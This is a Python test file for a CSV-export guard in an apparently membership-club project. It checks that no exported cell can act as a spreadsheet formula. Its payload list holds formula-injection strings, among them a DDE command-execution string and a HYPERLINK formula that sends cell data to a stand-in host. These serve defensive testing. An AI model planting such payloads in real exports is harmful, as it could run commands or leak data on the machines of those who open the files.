"""No cell of a file of ours is a formula, whatever somebody wrote (R41)."""

import ast
import csv
import io
import logging
from pathlib import Path

import pytest

from jessops.lib import csv_guard

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = [
    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example?"&A1)', "+1+1"),
    *("-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1"),
    *("\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1"),
    *("\uff20A1", "%0A=1", "|calc", "=IMPORTXML(A1)", "\ufeff \t=1+1"),
]
# What separates cells where somebody opens it.
SEPARATORS = [",", ";", "\t"]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("separator", SEPARATORS)
def test_no_cell_computes(payload: str, separator: str) -> None:
    cells = [payload, f"Ann{separator}{payload}", f'Ann"{separator}{payload}']
    text = csv_guard.write(["name"], [{"name": cell} for cell in cells])
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        for cell in row:
            assert not cell.lstrip(" \t\r\n\u00a0\ufeff\u200b").startswith(
                ("=", "+", "-", "@", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20")
            ), cell
    # and nothing is lost: apostrophes in front of lines are all that was added
    (_, *rows) = csv.reader(io.StringIO(text, newline=""))
    said = [row[0].replace("'", "") for row in rows]
    assert said == [cell.replace("'", "") for cell in cells]


def test_each_line_of_a_cell_is_guarded() -> None:
    """Found by LibreOffice, opened with the wrong separator: a line began a cell."""
    assert csv_guard.plain("Ann\n=1+1\r\n@A1") == "Ann\n'=1+1\r\n'@A1"
    assert csv_guard.plain("one\ttwo\nthree") == "one\ttwo\nthree"


def test_there_are_twenty_and_the_plain_stays_plain() -> None:
    assert len(set(PAYLOADS)) >= 20
    for cell in ("Ann Ashe", "O'Neill", "12 Mill Lane", "50% off", "a=b", "Ann, =1"):
        assert csv_guard.plain(cell) == cell


def test_numbers_stay_numbers_below_nought_too() -> None:
    text = csv_guard.write(["pence", "said"], [{"pence": -4250, "said": "-4250"}])
    assert text.splitlines()[1] == '-4250,"\'-4250"'


def test_how_many_left_is_logged_and_not_who(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.INFO, logger="jessops.lib.csv_guard"):
        csv_guard.write(["name"], [{"name": "Ann Ashe"}] * 3)
    (line,) = caplog.records
    assert line.__dict__["rows"] == 3
    assert "Ann" not in repr(line.__dict__)


def test_there_is_one_way_to_write_csv() -> None:
    """A new export is found here: every other one would have to guard its own cells."""
    found = []
    for app in ("clubs", "jessops", "members", "newsletter", "privacy", "shop"):
        for file in (ROOT / app).rglob("*.py"):
            for node in ast.walk(ast.parse(file.read_text())):
                if (
                    isinstance(node, ast.Attribute)
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                    and node.attr in ("writer", "DictWriter")
                ):
                    found.append(file.relative_to(ROOT).as_posix())
    assert found == ["jessops/lib/csv_guard.py"]
